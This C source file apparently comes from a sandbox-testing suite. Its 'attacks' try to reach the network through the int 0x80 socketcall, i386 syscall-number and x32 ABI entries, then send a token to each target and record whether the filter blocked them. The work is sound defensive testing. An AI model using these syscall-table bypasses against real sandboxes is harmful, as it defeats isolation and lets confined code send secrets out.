/* The other system call tables of the same kernel. */
#include "attack.h"

#ifdef __x86_64__
/* Static and not position-independent: what these point to is below 4 GiB. */
static struct address to;
static uint32_t words[6];
static char data[256];

static long int80(long number, long a, long b, long c, long d, long e) {
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
                     : "memory", "r8", "r9", "r10", "r11");
    return (int)result;
}

static long low(const void *pointer) {
    CHECK((uintptr_t)pointer >> 32 == 0);
    return (long)(uintptr_t)pointer;
}

static void by_socketcall(void *unused) {
    (void)unused;
    enum { SOCKET = 1, CONNECT = 3, SEND = 9 };
    words[0] = AF_INET, words[1] = SOCK_STREAM, words[2] = 0;
    long fd = int80(102, SOCKET, low(words), 0, 0, 0);
    words[0] = (uint32_t)fd, words[1] = (uint32_t)low(&to), words[2] = to.len;
    if (fd < 0 || int80(102, CONNECT, low(words), 0, 0, 0)) _exit(1);
    words[1] = (uint32_t)low(data), words[2] = (uint32_t)strlen(data), words[3] = 0;
    int80(102, SEND, low(words), 0, 0, 0);
}

static void by_number(void *unused) {
    (void)unused;
    long fd = int80(359, AF_INET, SOCK_STREAM, 0, 0, 0);
    if (fd < 0 || int80(362, fd, low(&to), to.len, 0, 0)) _exit(1);
    int80(4, fd, low(data), (long)strlen(data), 0, 0);
}

static void by_x32(void *unused) {
    (void)unused;
    enum { X32 = 0x40000000 };
    long fd = syscall(X32 | SYS_socket, AF_INET, SOCK_STREAM, 0);
    if (fd < 0) _exit(errno == ENOSYS ? 77 : 1);
    if (syscall(X32 | SYS_connect, fd, &to.any, to.len)) _exit(1);
    syscall(X32 | SYS_write, fd, data, strlen(data));
}

static void both(void (*way)(void *)) {
    snprintf(data, sizeof data, "%s", token());
    EACH_TARGET(t) {
        to = t;
        int status = apart(way, NULL);
        if (status == 77) absent("no such calls");
        note(status == 128 + SIGSYS ? "killed by SIGSYS" : status ? "refused" : "done");
    }
}

static void socketcall(void) { both(by_socketcall); }
static void direct(void) { both(by_number); }
static void x32(void) { both(by_x32); }
#else
static void socketcall(void) { absent("another machine"); }
static void direct(void) { absent("another machine"); }
static void x32(void) { absent("another machine"); }
#endif

ATTACKS({"int80-socketcall", socketcall}, {"int80-direct", direct}, {"x32", x32})
